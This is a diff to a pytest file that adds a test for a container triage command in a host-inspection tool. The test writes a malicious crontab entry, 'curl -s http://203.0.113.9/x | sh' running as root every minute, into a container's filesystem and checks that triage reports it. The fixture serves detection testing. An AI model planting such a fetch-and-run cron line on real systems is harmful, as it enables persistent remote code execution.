@@ -12,7 +12,11 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 
+from extension.cli import main
+from extension.command_line import CannotRunError
+from extension.container_triage import ALL, chosen
 from tables.host import Host
 from tables.host.containers import reader
 from tables.host.containers.containerd import Containerd
@@ -98,6 +102,24 @@ def test_a_container_of_containerd(containerd: Daemon, rootfs: Path, monkeypatch
     (row,) = (row for row in process_tree.generate(host, query) if row.pid == pid)
     assert (row.container_id, row.container_name) == (ID, "web")
     assert {container.container_id: container.state for container in reader.Containers(host, query).all()}[ID] == "running"
+
+
+@needs("containerd", "ctr", "runc")
+def test_a_triage_of_a_container(containerd: Daemon, rootfs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(reader, "STATE_FOLDERS", (str(containerd.state),))
+    (rootfs / "etc").mkdir()
+    (rootfs / "etc/crontab").write_text("* * * * * root curl -s http://203.0.113.9/x | sh\n")
+    containerd.ctr("run", "-d", "--rootfs", "--label", "nerdctl/name=web", str(rootfs), ID, "/bin/sleep", "300")
+    (container,) = chosen(Host(), "web")
+    assert container in chosen(Host(), ID[:12]) and container in chosen(Host(), ALL)
+    with pytest.raises(CannotRunError, match=r"no running container 'shop'; there are: .*web"):
+        chosen(Host(), "shop")
+    done = CliRunner().invoke(main, ["triage", "--container", "web", "--step", "2", "--step", "9", "--format", "json"])
+    assert done.exit_code == 1, done.output
+    (document,) = json.loads(done.output)
+    assert document["container"].startswith(f"web {ID[:12]}")
+    assert "203.0.113.9" in done.output
+    assert CliRunner().invoke(main, ["triage", "--container", "web", "--format", "html"]).exit_code == 2
 
 
 @needs("podman", "runc")
